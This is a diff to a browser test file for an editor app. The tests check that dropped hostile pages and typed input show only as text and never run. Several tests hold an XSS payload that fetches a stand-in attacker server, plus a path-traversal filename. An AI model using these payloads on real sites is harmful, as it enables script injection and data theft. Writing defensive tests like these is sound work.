@@ -1,4 +1,4 @@
-/** Pages that mean harm: one of another origin that is open beside the desk, and one that is dropped on it. Nothing of them runs. */
+/** Hostile pages: one of another origin that is open beside the desk, and one that is dropped on it. Nothing of them runs. */
 import { readdir, readFile } from 'node:fs/promises'
 import type { Server } from 'node:http'
 import { join } from 'node:path'
@@ -13,7 +13,7 @@ const browser = await provideChromium()
 let page: Page
 let evil: Server
 let evilOrigin: string
-/** Where whatever runs would call. */
+/** The requests of any code that runs. */
 let calls: string[]
 
 beforeAll(async () => {
@@ -116,7 +116,7 @@ describe('a saved page', { timeout: 120_000 }, () => {
     await openTopic(page)
   })
 
-  it('is shown as words; nothing of it runs, loads or leads anywhere', async () => {
+  it('is shown as text; nothing in it runs, loads or links anywhere', async () => {
     const dialogs: string[] = []
     page.on('dialog', (dialog) => dialogs.push(dialog.message()))
     await dropPage(page, '../../evil.html', createEvilPage())
@@ -124,7 +124,7 @@ describe('a saved page', { timeout: 120_000 }, () => {
     await page.locator('.text', { hasText: 'lit its lamp again' }).waitFor()
     expect(await page.locator('.text').textContent()).toContain('<img src=x onerror=')
     expect(await page.locator('.text :is(a, img, script, iframe, svg, object, form, button)').count()).toBe(0)
-    // Our own words too: what looks like HTML is words in the box.
+    // The editor's own words too: what looks like HTML is text in the box.
     await page.getByRole('tab', { name: 'Topic' }).click()
     await page.locator('#field-topic-name').fill(`<img src=x onerror="fetch('${evilOrigin}/name')">Name`)
     await page.locator('#field-topic-name').blur()
@@ -138,7 +138,7 @@ describe('a saved page', { timeout: 120_000 }, () => {
     expect((await readdir(desk.sourcesFolder)).every((name) => name.endsWith('.txt'))).toBe(true)
   })
 
-  it('cannot put anything into the box but words', async () => {
+  it('can put only text into the box', async () => {
     await page.locator('#field-topic-name').fill(`<img src=x onerror="fetch('${evilOrigin}/name')">Name`)
     await page.locator('#field-topic-name').blur()
     await expect
@@ -148,7 +148,7 @@ describe('a saved page', { timeout: 120_000 }, () => {
     expect(calls).toEqual([])
   })
 
-  it('of five megabytes of nesting is refused with a sentence, and the desk goes on', async () => {
+  it('of five megabytes of nested elements is refused with one sentence, and the desk keeps working', async () => {
     await dropPage(page, 'deep.html', `<html><body>${'<div>'.repeat(950_000)}`)
     await page.getByText(/deep\.html is (?:nested too deeply|longer than)/).waitFor()
     await page.locator('#field-topic-name').fill('The desk goes on')
